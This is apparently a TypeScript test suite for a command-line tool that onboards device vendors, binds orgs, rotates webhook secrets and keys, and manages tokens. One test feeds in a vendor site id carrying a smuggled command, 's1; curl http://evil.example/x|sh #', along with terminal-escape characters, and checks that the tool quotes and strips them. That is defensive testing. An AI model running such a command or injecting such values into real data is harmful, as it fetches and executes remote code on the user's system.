import { generateKeyPairSync } from "node:crypto";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { verifyConsumerToken } from "@convergint/tokens";
import { generateSecret } from "@convergint/webhooks";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { startChild } from "../testing/child-server.ts";
import { deliver, statusChanged } from "../testing/deliver.ts";
import { pageDevice, startPageVendor } from "../testing/page-vendor.ts";
import { runCli } from "../testing/run-cli.ts";
import { ADMIN_TOKEN, type RunningServer, startServer } from "../testing/running-server.ts";
import { listed, type StandInVendor, startVendor } from "../testing/stand-in-vendor.ts";

let server: RunningServer;
let vendor: StandInVendor;
let folder: string;
beforeAll(async () => {
  [server, vendor] = await Promise.all([startServer(), startVendor()]);
  folder = await mkdtemp(join(tmpdir(), "ingest-cli-"));
  vendor.devices = [listed("cam-1", { status: "online" })];
});
afterAll(async () => {
  await server.close();
  await vendor.close();
  await rm(folder, { recursive: true });
});

const environment = () => ({
  CONVERGINT_INGEST_URL: server.url,
  CONVERGINT_INGEST_TOKEN: ADMIN_TOKEN,
  VENDOR_API_KEY: vendor.apiKey,
});
/** Runs a command against the server. */
const run = (args: readonly string[], env: Readonly<Record<string, string>> = {}) =>
  runCli(args, { ...environment(), ...env });

async function json(args: readonly string[]) {
  const { code, stdout, stderr } = await run([...args, "--json"]);
  expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
  return JSON.parse(stdout);
}

test("onboards, binds, syncs, rotates and lists a vendor", async () => {
  const added = await run(["integration", "add", "Example Campus", vendor.baseUrl]);
  expect(added).toMatchObject({ code: 0, stderr: "" });
  expect(added.stdout).toMatch(/complete, 1 devices/);
  expect(added.stdout).toMatch(/No org or site is bound yet/);
  const [integration] = (await json(["integration", "list"])).data;
  const { integration_id, webhook_url } = integration;
  const event = statusChanged({ id: "evt-cli" });
  expect((await deliver(webhook_url, event, { secret: vendor.webhookSecret })).status).toBe(204);

  expect((await run(["quarantine"])).stdout).toMatch(
    `${integration_id}  --org org --site hq  Headquarters  1 devices, 1 events`,
  );
  const mistyped = await run(["bind", integration_id, "--org", "orgg", "--customer", "cust"]);
  expect(mistyped.stdout).toMatch(/Warning: neither the inventory nor an event has this org/);
  const bound = await run(["bind", integration_id, "--org", "org", "--customer", "cust"]);
  expect(bound.stdout).not.toMatch(/Warning/);
  expect(bound.stdout).toMatch(/1 devices and 1 events left quarantine/);
  expect((await run(["quarantine"])).stdout).toMatch(/All orgs and sites are bound/);
  expect((await run(["sync", integration_id])).stdout).toMatch(/unchanged, read 1 devices/);

  const allowed = await run(["integration", "allow-hosts", integration_id, "login.example.net"]);
  expect(allowed.stdout).toMatch(
    /may be sent to the domain of http:\/\/127\.0\.0\.1:\d+, and to login\.example\.net/,
  );
  expect((await run(["integration", "allow-hosts", integration_id])).stdout).toMatch(/to no other host/);

  const secretFile = join(folder, "secret.txt");
  await writeFile(secretFile, `${generateSecret()}\n`);
  const rotated = await json(["rotate-secret", integration_id, "--secret-file", secretFile]);
  expect(rotated.webhook_secrets).toHaveLength(2);
  expect(JSON.stringify(rotated)).not.toContain((await readFile(secretFile, "utf8")).trim().slice(6));

  expect((await run(["integration", "disable", integration_id])).stdout).toMatch(/disabled since 2/);
  expect((await run(["sync", integration_id])).stderr).toMatch(/The integration is disabled/);
  expect((await run(["integration", "enable", integration_id])).stdout).toMatch(/webhooks /);

  vendor.instead.set("/v1/devices", (_request, response) => response.writeHead(404).end());
  const failed = await run(["sync", integration_id]);
  vendor.instead.clear();
  expect(failed.code).toBe(1);
  expect(failed.stdout).toMatch(/^failed, read 0 devices: .*404/);
  // What is stored, not what the failed sync read.
  expect((await run(["integration", "list"])).stdout).toMatch(/failed, 1 devices/);
  expect((await run(["integration", "delete", integration_id])).stdout).toBe("Deleted.\n");
  expect((await json(["integration", "list"])).data).toEqual([]);
});

describe("adding a vendor", () => {
  const SIGNED = { signature_schemes: ["v1"], batching: false, endpoint_management: false };
  const WEBHOOKS = { ...SIGNED, retry_schedule_seconds: [1, 2], health_latency_seconds: 60 };
  let other: StandInVendor;
  const add = (args: readonly string[], options?: { isTTY: boolean }) =>
    runCli(
      ["integration", "add", "Other", other.baseUrl, ...args],
      { ...environment(), VENDOR_API_KEY: other.apiKey },
      options,
    );
  beforeEach(async () => {
    other = await startVendor();
    other.devices = [
      listed("cam-1", { status: "online", system_id: "s1" }),
      listed("cam-2"),
      listed("cam-3"),
    ];
  });
  afterEach(() => other.close());

  test("with --dry-run prints what it would do, with progress only on a terminal", async () => {
    other.manifest = { webhooks: WEBHOOKS, egress_ip_ranges: ["192.0.2.0/24"] };
    const before = await json(["integration", "list"]);
    const { code, stdout, stderr } = await add(["--dry-run", "--customer", "cust"]);
    expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
    for (const line of [
      "Dry run: nothing is stored, and nothing is registered at the vendor.",
      "Account: 1 org",
      "  org  Example Campus",
      "  hq  Headquarters  3 devices",
      "  camera: 1 online, 2 without a status",
      "  s1    1 devices",
      "  vendor: Stand-in (stand-in), contract 1.0, API at ",
      "  webhooks: signed v1, status within 60 s, 2 retries, endpoints registered by hand",
      "  webhooks come from: 192.0.2.0/24",
      "  poll the inventory every 300 s, and every 60 s while webhooks are silent for more than 900 s",
      "/webhooks/{integration_id}, which a person enters in the vendor's console, with a secret that the server creates",
      "  bind every org to the customer cust",
    ]) {
      expect(stdout).toContain(line);
    }
    const onTerminal = await add(["--dry-run", "--json"], { isTTY: true });
    expect(JSON.parse(onTerminal.stdout)).toMatchObject({ devices: { count: 3 }, systems: { count: 1 } });
    expect(onTerminal.stderr).toContain("\r\u001b[KReading devices: 3 of 3");
    expect(onTerminal.stderr.endsWith("\r\u001b[K")).toBe(true);
    expect(await json(["integration", "list"])).toEqual(before);
    other.instead.set("/v1/sites", (_request, response) => response.writeHead(404).end());
    const failed = await add(["--dry-run"]);
    expect(failed).toMatchObject({ code: 1, stdout: "" });
    expect(failed.stderr).toMatch(/^convergint-ingest: .*404/);
  });

  test("whose console registers endpoints prints the URL and a created secret once", async () => {
    other.manifest = { webhooks: WEBHOOKS };
    const { stdout } = await add([]);
    const [, url = "", secret = "", id = ""] =
      /URL {5}(\S+)\n {2}secret {2}(whsec_\S+)\n[\s\S]*convergint-ingest rotate-secret (int_\S+) --secret-file/.exec(
        stdout,
      ) ?? [];
    expect((await deliver(url, statusChanged({ id: "evt-by-hand" }), { secret })).status).toBe(204);
    expect((await run(["integration", "show", id])).stdout).not.toContain(secret.slice(6));
    const rotated = (await run(["rotate-secret", id, "--create"])).stdout;
    expect(rotated).toMatch(/^Replaced the secret\..*\nEnter in the vendor's console/);
    expect(rotated).toMatch(/secret {2}whsec_/);
    expect(rotated).not.toContain(secret);
  });

  test("with a private key needs no other credential, and the key can be replaced", async () => {
    const createKey = async (name: string) => {
      const { privateKey, publicKey } = generateKeyPairSync("ed25519");
      const file = join(folder, `${name}.pem`);
      await writeFile(file, privateKey.export({ format: "pem", type: "pkcs8" }));
      return {
        file,
        known: { keyId: name, publicKey: publicKey.export({ format: "pem", type: "spki" }).toString() },
      };
    };
    const [first, second] = [await createKey("first"), await createKey("second")];
    const checks = { issuer: "convergint", audience: "us", algorithms: ["EdDSA"] } as const;
    let known = [first.known];
    other.manifest = {
      authentication: [{ scheme: "signed_jwt", ...checks, algorithms: ["RS256", "EdDSA"] }],
    };
    other.isAuthorized = (authorization = "") =>
      verifyConsumerToken(authorization.replace("Bearer ", ""), { ...checks, keys: known }).then(
        () => true,
        () => false,
      );
    const invoke = (...args: string[]) => runCli(args, { ...environment(), VENDOR_API_KEY: undefined });
    const flags = [
      "--private-key-file",
      first.file,
      "--key-id",
      "first",
      "--issuer",
      "convergint",
      "--audience",
      "us",
    ];
    const added = await invoke("integration", "add", "With key", other.baseUrl, ...flags);
    expect(added).toMatchObject({ code: 0, stderr: "" });
    const [id = ""] = /int_\S+/.exec(added.stdout) ?? [];
    const rotate = () =>
      invoke("integration", "rotate-key", id, "--private-key-file", second.file, "--key-id", "second");
    expect((await rotate()).stdout).toMatch(
      /does not accept the new key yet.*\n {2}waits since .* key second: .*401/,
    );
    expect((await invoke("integration", "show", id)).stdout).toMatch(/waits since .* key second/);
    known = [second.known];
    expect((await rotate()).stdout).toMatch(/The vendor accepts the new key/);
    expect((await run(["sync", id])).stdout).toMatch(/^unchanged/);
    const missing = await invoke(
      "integration",
      "rotate-key",
      id,
      "--private-key-file",
      join(folder, "no.pem"),
    );
    expect(missing).toMatchObject({ code: 1, stderr: expect.stringContaining("no.pem") });
  });

  test("that has no webhooks, or signs with its own keys, prints no secret", async () => {
    other.manifest = { webhooks: null };
    expect((await add([])).stdout).toMatch(/The vendor has no webhooks, so the server only polls it/);
    other.manifest = { webhooks: { ...WEBHOOKS, signature_schemes: ["v1a"] } };
    const { stdout } = await add([]);
    expect(stdout).toMatch(/Save its public key \(whpk_…\) to a file/);
    expect(stdout).not.toContain("whsec_");
  });
});

test("shows what is wrong with a vendor's records", async () => {
  const faulty = await startVendor();
  faulty.devices = [
    listed("cam-1", { status: "offline", hostname: "\u001b[2K".repeat(100) }),
    ...Array.from({ length: 5 }, (_, n) => listed(`cam-x${n}`, { last_seen_at: "yesterday" })),
    listed("cam-2", { site_id: "" }),
  ];
  faulty.instead.set("/v1/orgs", (_request, response) =>
    response.writeHead(200, { "content-type": "application/json" }).end(
      JSON.stringify({
        data: [{ org_id: "org", name: "Campus", updated_at: "yesterday" }, { name: "no id" }],
        next_cursor: null,
        snapshot: { id: "orgs", as_of: faulty.asOf, total_count: 2 },
      }),
    ),
  );
  const credential = { VENDOR_API_KEY: faulty.apiKey };
  const added = await run(["integration", "add", "Faulty", faulty.baseUrl, "--customer", "cust"], credential);
  expect(added.code).toBe(0);
  expect(server.logged.filter((line) => line.includes('"record":"org"'))).toHaveLength(2);
  const { data } = await json(["integration", "list"]);
  const { integration_id: id, last_sync } = data.find(({ name }: { name: string }) => name === "Faulty");
  expect(last_sync).toMatchObject({ outcome: "complete", faults: { count: 7, set_aside: 1 } });
  const EXPECTED = [
    /Faulty {2}complete with 7 faults, 6 devices {2}webhooks/,
    /^ {2}left out: device cam-1 \/hostname is "\\u001b\[2K.*…\. Send a text of at most 253 characters\. \(INV-001\)$/m,
    /^ {2}left out: device cam-x2 \/last_seen_at is "yesterday"\. Send an RFC 3339 .* \(INV-001\)$/m,
    /^ {2}set aside: device cam-2 \/site_id is ""\. .* \(INV-001\)$/m,
    /^ {2}and 2 more$/m,
  ];
  expect((await run(["integration", "list"])).stdout).toMatch(EXPECTED[0] as RegExp);
  const { stdout } = await run(["integration", "show", id]);
  for (const each of EXPECTED) expect(stdout).toMatch(each);
  const synced = await run(["sync", id]);
  expect(synced).toMatchObject({ code: 0, stderr: "" });
  expect(synced.stdout).toMatch(/^unchanged with 7 faults, read 6 devices: Applied with 7 faults/);
  for (const each of EXPECTED.slice(1)) expect(synced.stdout).toMatch(each);
  expect((await server.get("/metrics")).text).toMatch(
    new RegExp(`faults_total\\{integration_id="${id}",source="listing",effect="set_aside"\\} 2`),
  );
  expect(server.logged.filter((line) => line.includes(id) && line.includes('"synced"'))).toHaveLength(2);
  await faulty.close();
});

test("a vendor's ids and names cannot write commands or move the cursor", async () => {
  const hostile = await startVendor();
  hostile.sites = [
    {
      site_id: "s1; curl http://evil.example/x|sh #",
      org_id: "org",
      name: "\u001b[1A\u009b2K\rAll bound\u202e",
    },
  ];
  hostile.devices = [listed("cam-1", { site_id: "s1; curl http://evil.example/x|sh #" })];
  await run(["integration", "add", "hostile", hostile.baseUrl], { VENDOR_API_KEY: hostile.apiKey });
  const { stdout } = await run(["quarantine"]);
  expect(stdout).toContain("--site 's1; curl http://evil.example/x|sh #'");
  const asJson = (await run(["quarantine", "--json"])).stdout;
  for (const control of ["\u001b", "\u009b", "\r", "\u202e"]) {
    expect(stdout + asJson).not.toContain(control);
  }
  expect(JSON.stringify(JSON.parse(asJson))).toContain("\u009b2K");
  await hostile.close();
});

test("creates, lists and revokes tokens", async () => {
  const { token, token_id } = await json(["token", "create", "a reader"]);
  expect((await run(["token", "list"])).stdout).toContain(`${token_id}  read  a reader\n`);
  const limits = ["--customer", "a", "b", "--expires-at", "2999-01-01T00:00:00Z"];
  const { token_id: id } = await json(["token", "create", "a portal", ...limits]);
  expect((await run(["token", "show", id])).stdout).toBe(
    `${id}  read  a portal  only customers a, b  until 2999-01-01T00:00:00Z\n`,
  );
  const admin = await run(["token", "create", "an admin", "--role", "admin", "--customer", "a"]);
  expect(admin.stderr).toMatch(/Only a token with the role read can be restricted/);
  const denied = await run(["sync", "int_x"], { CONVERGINT_INGEST_TOKEN: token });
  expect(denied).toMatchObject({ code: 1, stdout: "" });
  expect(denied.stderr).toMatch(/This token is read-only/);
  expect((await run(["token", "delete", token_id])).stdout).toMatch(/Revoked/);
});

test("migrates and exports the database, without a secret", async () => {
  const database = join(folder, "own.db");
  expect((await run(["migrate", "--db", database])).stderr).toMatch(/newest schema/);
  const { code, stdout } = await run(["export", "--db", server.database]);
  expect(code).toBe(0);
  const records = stdout
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line));
  expect(new Set(records.map(({ table }) => table))).toContain("device");
  for (const secret of [vendor.apiKey, vendor.webhookSecret]) expect(stdout).not.toContain(secret);
});

test("finds its token in the server's own settings, unless the command line names one", async () => {
  const file = join(folder, "admin.token");
  await writeFile(file, `${ADMIN_TOKEN}\n`);
  const list = async (env: Readonly<Record<string, string>>, ...args: string[]) =>
    (await runCli(["token", "list", ...args], { CONVERGINT_INGEST_URL: server.url, ...env })).code;
  expect(await list({ CONVERGINT_INGEST_ADMIN_TOKEN: ADMIN_TOKEN })).toBe(0);
  expect(await list({ CONVERGINT_INGEST_ADMIN_TOKEN_FILE: file })).toBe(0);
  expect(await list({ CONVERGINT_INGEST_DB: join(folder, "admin") })).toBe(0);
  expect(await list({ CONVERGINT_INGEST_TOKEN: "outdated" }, "--token-file", file)).toBe(0);
  expect(await list({})).toBe(1);
});

describe("profiles", () => {
  const FIXTURES = new URL("../../../profiles/shipped/fixtures/", import.meta.url).pathname;
  const PAGE = `${FIXTURES}convergint-page.json`;

  test("that are shipped are listed and shown", async () => {
    const { data } = JSON.parse((await runCli(["profile", "list", "--json"])).stdout);
    expect(data.map(({ name }: { name: string }) => name)).toContain("meraki");
    expect((await runCli(["profile", "show", "meraki"])).stdout).toMatch(/^name: meraki$/m);
    expect(await runCli(["profile", "show", "none"])).toMatchObject({ code: 1, stdout: "" });
  });

  test("are checked against samples: fields, unmapped words, and the minimum data", async () => {
    const { code, stdout } = await runCli(["profile", "check", "convergint-page", "--samples", PAGE]);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^ {2}device +mac_addresses +3 of 4 +\["02:4e:10:00:00:5\d"\]$/m);
    expect(stdout).toMatch(/^ {2}type "turnstile": 1$/m);
    expect(stdout).toMatch(/^ {2}B3 +MUST +device: id, name, type, org id, site id +yes \(4 of 4\)$/m);
    const json = await runCli(["profile", "check", "convergint-page", "--samples", PAGE, "--json"]);
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: true, profile: { name: "convergint-page" } });
  });

  test("that lose records fail the check, and name the line", async () => {
    const file = join(folder, "wrong.yaml");
    const { stdout: text } = await runCli(["profile", "show", "convergint-page"]);
    await writeFile(file, text.replace("device_id: item.device_id", "device_id: item.device_id + 1"));
    const { code, stdout } = await runCli(["profile", "check", file, "--samples", PAGE]);
    expect(code).toBe(1);
    expect(stdout).toMatch(/lost \(4\): device .*wrong\.yaml:\d+/);
  });

  test("are drafted from samples; a draft does not replace a file", async () => {
    const out = join(folder, "draft.yaml");
    const init = ["profile", "init", "--samples", PAGE, "--name", "draft", "--out", out];
    expect(await runCli(init)).toMatchObject({ code: 0 });
    expect(await readFile(out, "utf8")).toMatch(/^name: draft$/m);
    expect(await runCli(init)).toMatchObject({ code: 1 });
    expect((await runCli(["profile", "check", out, "--samples", PAGE])).code).toBe(0);
  });

  test("are tried live without a server, and show the first ten devices", async () => {
    const page = await startPageVendor();
    page.devices = Array.from({ length: 13 }, (_, index) => pageDevice(`cam-${index}`));
    const tried = await runCli(["profile", "try", "convergint-page", "--base-url", page.baseUrl, "--json"], {
      VENDOR_API_KEY: page.apiKey,
    });
    await page.close();
    expect(tried).toMatchObject({ code: 0, stderr: "" });
    const { devices, total_count } = JSON.parse(tried.stdout);
    expect([devices.length, total_count]).toEqual([10, 13]);
    const posts = ["profile", "try", "rhombus", "--base-url", page.baseUrl];
    expect((await runCli(posts, { VENDOR_API_KEY: "k" })).stderr).toMatch(/use POST.*--allow-post/);
  });
});

describe("a command that fails prints one line", () => {
  test.each([
    ["no server", ["sync", "int_x", "--url", "http://127.0.0.1:1"], {}, /No server answers at http/],
    [
      "https on an http port",
      ["token", "list", "--url", "https"],
      {},
      /does not speak TLS on this port; use http/,
    ],
    ["no token", ["token", "list"], { CONVERGINT_INGEST_TOKEN: "" }, /No token: the file/],
    ["a wrong token", ["token", "list"], { CONVERGINT_INGEST_TOKEN: "wrong" }, /Authorization: Bearer/],
    [
      "no credential",
      ["integration", "add", "x", "http://127.0.0.1:1"],
      { VENDOR_API_KEY: "" },
      /VENDOR_API_KEY/,
    ],
    [
      "a vendor at a private address",
      [
        "integration",
        "add",
        "x",
        "http://10.0.0.1",
        "--allow-host",
        "a.example",
        "--allow-host",
        "b.example",
      ],
      {},
      /10\.0\.0\.1 are refused.*--allow-private-network 10\.0\.0\.1/,
    ],
    ["an unknown integration", ["sync", "int_x"], {}, /List the integrations/],
    ["an unreachable vendor", ["integration", "add", "x", "http://127.0.0.1:1"], {}, /127\.0\.0\.1:1/],
  ] as const)("%s", async (_, args, env, sentence) => {
    const given = args.map((arg) => (arg === "https" ? server.url.replace("http:", "https:") : arg));
    const { code, stdout, stderr } = await run(given, env);
    expect({ code, stdout }).toEqual({ code: 1, stdout: "" });
    expect(stderr).toMatch(sentence);
    expect(stderr.trim().split("\n")).toHaveLength(1);
  });
});

test("a key is not sent to the target of a redirect", async () => {
  const received: string[] = [];
  const redirecting = createServer((request, response) => {
    received.push(request.url ?? "");
    response.writeHead(307, { location: "/elsewhere" }).end();
  });
  await new Promise<void>((resolve) => redirecting.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(redirecting.address() as AddressInfo).port}`;
  const { code, stderr } = await run(["integration", "add", "x", vendor.baseUrl, "--url", url]);
  redirecting.close();
  expect(code).toBe(1);
  expect(stderr).toContain("redirects to another address");
  expect(received).toEqual(["/v1/integrations"]);
});

test("the process passes on the exit code and the output", async () => {
  const failing = startChild(["sync", "int_x"], { env: environment() });
  const listing = startChild(["integration", "list", "--json"], { env: environment() });
  const failed = await failing.ended();
  expect(failed).toMatchObject({ code: 1, stdout: "" });
  expect(failed.stderr).toMatch(/^convergint-ingest: .*List the integrations.*\n$/);
  const listed = await listing.ended();
  expect(listed).toMatchObject({ code: 0, stderr: "" });
  expect(JSON.parse(listed.stdout)).toHaveProperty("data");
});

test("prints the effective settings without secrets", async () => {
  const { code, stdout } = await run(["serve", "--print-config", "--port", "0"], {
    CONVERGINT_INGEST_DB: "postgres://ingest:s3cret@db.example/ingest",
    CONVERGINT_INGEST_KEY: "a-key",
    CONVERGINT_INGEST_KEEP_EVENTS_DAYS: "7",
  });
  expect(code).toBe(0);
  expect(JSON.parse(stdout)).toMatchObject({
    database: "postgres://ingest@db.example/ingest",
    encryption_key: "(set)",
    port: 0,
    keep_events_days: 7,
  });
  expect(stdout).not.toMatch(/s3cret|a-key/);
});
